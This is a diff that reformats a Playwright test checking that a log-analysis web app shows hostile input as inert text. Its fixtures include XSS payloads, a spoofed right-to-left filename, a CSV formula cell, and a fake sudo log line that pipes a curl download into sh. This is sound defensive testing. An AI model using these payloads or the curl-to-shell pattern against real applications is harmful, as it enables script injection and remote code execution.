@@ -10,12 +10,7 @@ import { waitForReady } from './helpers';
 
 const dir = path.join(import.meta.dirname, '..', 'test-results', 'hostile');
 const ATTACKER = '203.0.113.66';
-const PAYLOAD_USERS = [
-  '"><script>window.__xss=1</script>',
-  '<svg/onload=window.__xss=2>',
-  'javascript:window.__xss=3',
-  '<img/src=x/onerror=window.__xss=4>',
-];
+const PAYLOAD_USERS = ['"><script>window.__xss=1</script>', '<svg/onload=window.__xss=2>', 'javascript:window.__xss=3', '<img/src=x/onerror=window.__xss=4>'];
 const HOSTILE_HOST = '<svg/onload=window.__xss=5>';
 const FORMULA_HOST = '=SUM(1+1)';
 const UPLOAD_NAME = '"><img src=x onerror=window.__xss=6>\u202Egnp.tar.gz';
@@ -27,7 +22,9 @@ function authLog(host: string): string {
     lines.push(`${syslogTime(at(600 + i * 2))} ${host} sshd[${4000 + i}]: Failed password for invalid user ${user} from ${ATTACKER} port ${40000 + i} ssh2`);
   }
   lines.push(`${syslogTime(at(700))} ${host} sshd[4100]: Accepted password for root from ${ATTACKER} port 41000 ssh2`);
-  lines.push(`${syslogTime(at(760))} ${host} sudo:   www-data : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh -c curl http://x/<script>window.__xss=7</script>|sh`);
+  lines.push(
+    `${syslogTime(at(760))} ${host} sudo:   www-data : TTY=pts/0 ; PWD=/tmp ; USER=root ; COMMAND=/bin/sh -c curl http://x/<script>window.__xss=7</script>|sh`,
+  );
   lines.push(`${syslogTime(at(770))} ${host} sshd[4101]: Invalid user \u001b[31mred\u001b[0m\u0000nul\u202Eevil from ${ATTACKER} port 41001`);
   lines.push(`${syslogTime(at(780))} ${host} kernel: ${'A'.repeat(1024 * 1024)}`);
   return `${lines.join('\n')}\n`;
@@ -67,12 +64,18 @@ test('hostile log lines, host names and file names are shown as inert text every
   await assertInert(page, 'overview');
 
   // Every activity's drill-down: the raw lines carry the payloads.
-  const links = await page.getByTestId('activity-table').locator('tbody tr a[href*="/activities/"]').evaluateAll((as) => as.map((a) => (a as HTMLAnchorElement).href));
+  const links = await page
+    .getByTestId('activity-table')
+    .locator('tbody tr a[href*="/activities/"]')
+    .evaluateAll((as) => as.map((a) => (a as HTMLAnchorElement).href));
   expect(links.length).toBeGreaterThan(0);
   let sawPayload = false;
   for (const href of links.slice(0, 6)) {
     await page.goto(`${href}?source=logs`);
-    const text = await page.getByTestId('evidence').innerText().catch(() => '');
+    const text = await page
+      .getByTestId('evidence')
+      .innerText()
+      .catch(() => '');
     if (text.includes('<script>window.__xss=1</script>') || text.includes('<svg/onload=window.__xss=2>')) sawPayload = true;
     await assertInert(page, href);
   }
@@ -108,7 +111,11 @@ test('hostile log lines, host names and file names are shown as inert text every
   await anon.close();
 
   // CSV: no cell may start a formula; the formula host is there, neutralised.
-  const cells = csv.split('\r\n').slice(1).filter(Boolean).flatMap((row) => row.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? []);
+  const cells = csv
+    .split('\r\n')
+    .slice(1)
+    .filter(Boolean)
+    .flatMap((row) => row.match(/("([^"]|"")*"|[^,]*)(,|$)/g) ?? []);
   for (const c of cells) expect(c.replace(/^"/, '')).not.toMatch(/^[=+\-@\t\r]/);
   expect(csv).toContain(`'${FORMULA_HOST}`);
   expect(dialogs).toEqual([]);
